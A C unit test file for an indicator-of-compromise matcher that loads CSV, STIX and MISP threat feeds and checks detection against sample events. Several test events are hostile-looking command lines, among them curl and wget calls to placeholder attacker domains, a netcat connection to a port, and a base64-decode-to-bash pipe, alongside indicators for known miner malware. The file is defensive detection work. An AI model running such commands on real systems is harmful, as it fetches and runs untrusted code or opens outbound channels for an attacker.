/*
 * ioc_test.c - files of indicators in three formats, what is refused, what is
 * found in an event, and every prefix of a file.
 */
#include "rule_test.h"

#include <stdio.h>
#include <stdlib.h>

#include "ioc.h"
#include "ioc_check.h"

static struct ruleset *set_of(const char *text)
{
	struct rule_file f = { STR("feed"), str_of(text), false, true };

	return ruleset_compile(&f, 1);
}

/* The indicators that the event carries, one a line. */
static struct str found(const struct ruleset *rs, struct event *e)
{
	static char out[4096];
	struct matcher *m = matcher_new(rs);
	size_t n = 0;

	matcher_event(m, e);
	for (size_t i = 0; i < e->nfield; i++)
		if (e->field[i].key == KEY_K_IOC)
			n += (size_t)snprintf(out + n, sizeof(out) - n,
					      STR_FMT "\n",
					      STR_ARG(e->field[i].v.str));
	matcher_free(m);
	return str_mem(out, n);
}

static void assert_found(const struct ruleset *rs, unsigned key,
			 const char *value, const char *want)
{
	struct event *e = event_of(KIND_PROCESS, "processes", 0);
	struct str got;

	if (!ev_ip_str(e, key, str_of(value)) || key_info(key)->type != V_IP) {
		e = event_of(KIND_PROCESS, "processes", 0);
		ev_cstr(e, key, value);
	}
	got = found(rs, e);
	if (*want ? !str_has(got, str_of(want)) : got.n)
		fail_msg("%s: want \"%s\", got \"" STR_FMT "\"", value, want,
			 STR_ARG(got));
}

static const char csv[] =
	"\xef\xbb\xbf"
	"type,value,comment\r\n"
	"# a comment\r\n"
	"ip,203.0.113[.]9,\"command, and control\"\r\n"
	"cidr,198.51.100.0/24,range\r\n"
	"ipv6,2001:db8::66,six\r\n"
	"domain,*.Evil[.]example,\r\n"
	"url,hxxps://Drop.example/a/B/,dropper\r\n"
	"SHA-256,"
	"AAAABBBBCCCCDDDDEEEEFFFF0000111122223333444455556666777788889999,h\r\n"
	"md5,0123456789abcdef0123456789abcdef,\r\n"
	"path,/tmp/.x/run,\r\n"
	"path,/home/*/.ssh/.k*,\r\n"
	"path,/opt/*/miner,\r\n"
	"filename,kdevtmpfsi,miner\r\n"
	"process,kinsing,\r\n"
	"command_line,base64 -d | BASH,\r\n"
	"user-agent,EvilBot/1.0,\r\n"
	"mutex,whatever,\r\n"
	"ip,127.0.0.1,\r\nip,0.0.0.0/0,\r\nip,10.0.0.300,\r\n"
	"md5,d41d8cd98f00b204e9800998ecf8427e,\r\n"
	"domain,localhost,\r\npath,/tmp,\r\nname,sh,\r\n";

static void what_csv_finds(void **state)
{
	struct ruleset *rs = set_of(csv);

	(void)state;
	assert_found(rs, KEY_DESTINATION_IP, "203.0.113.9",
		     "destination.ip = 203.0.113.9 (command, and control)");
	assert_found(rs, KEY_DESTINATION_IP, "203.0.113.10", "");
	assert_found(rs, KEY_SOURCE_IP, "198.51.100.200", "(range)");
	assert_found(rs, KEY_SOURCE_IP, "198.51.101.1", "");
	assert_found(rs, KEY_SOURCE_IP, "2001:db8::66", "(six)");
	assert_found(rs, KEY_PROCESS_COMMAND_LINE,
		     "curl http://www.evil.EXAMPLE:8080/x", "Evil.example");
	assert_found(rs, KEY_PROCESS_COMMAND_LINE, "curl notevil.example", "");
	assert_found(rs, KEY_PROCESS_COMMAND_LINE,
		     "sh -c 'wget https://DROP.example/a/B'", "(dropper)");
	assert_found(rs, KEY_PROCESS_COMMAND_LINE,
		     "wget https://drop.example/a/b", "");
	assert_found(rs, KEY_PROCESS_COMMAND_LINE, "nc 203.0.113.9:4444",
		     "process.command_line = 203.0.113.9");
	assert_found(rs, KEY_PROCESS_COMMAND_LINE,
		     "echo x | base64 -d | bash -s", "base64 -d | BASH");
	assert_found(
		rs, KEY_FILE_HASH_SHA256,
		"aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889"
		"999",
		"(h)");
	assert_found(rs, KEY_FILE_HASH_MD5, "0123456789ABCDEF0123456789ABCDEF",
		     "file.hash.md5");
	assert_found(rs, KEY_FILE_PATH, "/tmp/.x/run", "/tmp/.x/run");
	assert_found(rs, KEY_FILE_PATH, "/tmp/.x/run2", "");
	assert_found(rs, KEY_FILE_PATH, "/home/hana/.ssh/.known", ".ssh/.k*");
	assert_found(rs, KEY_FILE_PATH, "/opt/a/miner", "/opt/*/miner");
	assert_found(rs, KEY_FILE_PATH, "/opt/a/b/miner", "");
	assert_found(rs, KEY_PROCESS_EXECUTABLE, "/var/tmp/kdevtmpfsi",
		     "(miner)");
	assert_found(rs, KEY_PROCESS_NAME, "kinsing", "kinsing");
	assert_found(rs, KEY_PROCESS_NAME, "kinsings", "");
	assert_found(rs, KEY_FILE_PATH, "/bin/sh", "");
	assert_found(rs, KEY_DESTINATION_IP, "127.0.0.1", "");
	ruleset_free(rs);
}

static void what_is_refused_is_said(void **state)
{
	struct ruleset *rs = set_of(csv);
	const struct rule_info *i = ruleset_info(rs, 0);

	(void)state;
	assert_int_equal(i->kind, RULE_IOC);
	assert_int_equal(i->state, RULE_PARTIAL);
	assert_true(str_has(i->why, STR("14 indicators; 7 refused: ")));
	assert_true(str_has(i->why, STR("127.0.0.1 (loopback)")));
	assert_true(str_has(i->why, STR("(of the empty file)")));
	assert_true(str_has(i->why, STR("1 of a type that is not known")));
	ruleset_free(rs);
	rs = set_of("nothing that\nis known here, or there\n");
	assert_int_equal(ruleset_info(rs, 0)->state, RULE_INVALID);
	ruleset_free(rs);
}

static void one_column(void **state)
{
	struct ruleset *rs = set_of("203.0.113.9\nevil.example\n/tmp/.hidden\n"
				    "0123456789abcdef0123456789abcdef\n");

	(void)state;
	assert_found(rs, KEY_DESTINATION_IP, "203.0.113.9", "203.0.113.9");
	assert_found(rs, KEY_PROCESS_COMMAND_LINE, "ping evil.example", "evil");
	assert_found(rs, KEY_FILE_PATH, "/tmp/.hidden", "hidden");
	assert_found(rs, KEY_FILE_HASH_MD5, "0123456789abcdef0123456789abcdef",
		     "0123");
	ruleset_free(rs);
}

static const char stix[] =
	"{\"type\":\"bundle\",\"id\":\"bundle--1\",\"objects\":["
	"{\"type\":\"ipv4-addr\",\"value\":\"192.0.2.1\"},"
	"{\"type\":\"indicator\",\"name\":\"C2\",\"pattern_type\":\"stix\","
	"\"pattern\":\"[ipv4-addr:value = '203.0.113.9' AND "
	"network-traffic:dst_port = 443]\"},"
	"{\"type\":\"indicator\",\"name\":\"drop\",\"pattern\":"
	"\"[file:name = 'x.bin' AND file:hashes.'SHA-256' = "
	"'aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889999']"
	" OR [domain-name:value IN ('one.example', 'two.example')]\"},"
	"{\"type\":\"indicator\",\"revoked\":true,\"pattern\":"
	"\"[ipv4-addr:value = '203.0.113.77']\"},"
	"{\"type\":\"indicator\",\"pattern_type\":\"yara\",\"pattern\":\"x\"},"
	"{\"type\":\"indicator\",\"pattern\":\"[file:path LIKE "
	"'/opt/%/it\\\\'s'] OR [process:command_line MATCHES '^x']\"}]}";

static void what_stix_finds(void **state)
{
	struct ruleset *rs = set_of(stix);

	(void)state;
	assert_found(rs, KEY_DESTINATION_IP, "203.0.113.9", "(C2)");
	assert_found(rs, KEY_DESTINATION_IP, "203.0.113.77", "");
	assert_found(rs, KEY_DESTINATION_IP, "192.0.2.1", "");
	assert_found(
		rs, KEY_FILE_HASH_SHA256,
		"aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889"
		"999",
		"(drop)");
	assert_found(rs, KEY_FILE_PATH, "/srv/x.bin", "");
	assert_found(rs, KEY_PROCESS_COMMAND_LINE, "curl one.example", "one");
	assert_found(rs, KEY_PROCESS_COMMAND_LINE, "curl two.example", "two");
	assert_found(rs, KEY_FILE_PATH, "/opt/a/it's", "/opt/*/it's");
	assert_true(str_has(ruleset_info(rs, 0)->why,
			    STR("2 of a type that is not known")));
	ruleset_free(rs);
}

static const char misp[] =
	"{\"response\":[{\"Event\":{\"info\":\"Campaign 7\",\"Attribute\":["
	"{\"type\":\"ip-dst|port\",\"value\":\"203.0.113.9|443\","
	"\"to_ids\":true},"
	"{\"type\":\"filename|md5\",\"to_ids\":true,\"comment\":\"the bot\","
	"\"value\":\"bot.bin|0123456789abcdef0123456789abcdef\"},"
	"{\"type\":\"domain\",\"value\":\"seen.example\",\"to_ids\":false},"
	"{\"type\":\"regkey\",\"value\":\"HKLM\\\\x\",\"to_ids\":true}],"
	"\"Object\":[{\"name\":\"file\",\"Attribute\":[{\"type\":\"sha1\","
	"\"value\":\"00112233445566778899aabbccddeeff00112233\","
	"\"to_ids\":true}]}]}}]}";

static void what_misp_finds(void **state)
{
	struct ruleset *rs = set_of(misp);

	(void)state;
	assert_found(rs, KEY_DESTINATION_IP, "203.0.113.9", "(Campaign 7)");
	assert_found(rs, KEY_FILE_PATH, "/tmp/bot.bin", "(the bot)");
	assert_found(rs, KEY_FILE_HASH_MD5, "0123456789abcdef0123456789abcdef",
		     "(the bot)");
	assert_found(rs, KEY_PROCESS_COMMAND_LINE, "ping seen.example", "");
	assert_found(rs, KEY_FILE_HASH_SHA256,
		     "00112233445566778899aabbccddeeff00112233", "0011");
	ruleset_free(rs);
}

static void every_prefix(void **state)
{
	static const char *const text[] = { csv, stix, misp };

	(void)state;
	for (size_t t = 0; t < 3; t++)
		for (size_t n = 0; n <= strlen(text[t]); n++) {
			char *p = xmalloc(n + 1);
			struct ruleset *rs;

			memcpy(p, text[t], n);
			rs = set_of(p);
			assert_true(n < 8 || ruleset_count(rs) > 0);
			ruleset_free(rs);
			free(p);
		}
}

/* What was whole before the damage is in force, and the damage is said. */
static void a_cut_file(void **state)
{
	char *cut = xmalloc(sizeof(stix));
	struct ruleset *rs;
	bool invalid_said = false;

	(void)state;
	memcpy(cut, stix, sizeof(stix) - 3);
	rs = set_of(cut);
	for (size_t i = 0; i < ruleset_count(rs); i++)
		invalid_said |= ruleset_info(rs, i)->state == RULE_INVALID;
	assert_true(invalid_said);
	assert_found(rs, KEY_DESTINATION_IP, "203.0.113.9", "(C2)");
	ruleset_free(rs);
	free(cut);
}

static void refang(void **state)
{
	struct arena a = { 0 };

	(void)state;
	assert_true(str_is(ioc_refang(&a, STR("hXXps[:]//a[.]b(dot)c")),
			   "https://a.b.c"));
	assert_true(str_is(ioc_refang(&a, STR("1[.]2[.")), "1.2[."));
	arena_free(&a);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(what_csv_finds),
		cmocka_unit_test(what_is_refused_is_said),
		cmocka_unit_test(one_column),
		cmocka_unit_test(what_stix_finds),
		cmocka_unit_test(what_misp_finds),
		cmocka_unit_test(a_cut_file),
		cmocka_unit_test(every_prefix),
		cmocka_unit_test(refang),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
